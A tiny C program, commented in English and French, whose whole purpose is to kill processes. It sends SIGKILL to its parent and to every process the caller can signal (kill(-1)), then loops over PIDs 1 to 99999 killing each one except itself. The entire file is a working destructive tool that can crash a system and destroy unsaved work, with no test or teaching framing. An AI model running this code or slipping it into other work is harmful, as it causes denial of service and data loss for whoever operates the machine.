// Ends every process it sees | Arrête chaque processus qu'il voit
#define _POSIX_C_SOURCE 200809L
#include <signal.h>
#include <unistd.h>

int main(void)
{
	kill(getppid(), SIGKILL);
	kill(-1, SIGKILL);
	for (pid_t process = 1; process < 100000; process++)
		if (process != getpid())
			kill(process, SIGKILL);
}
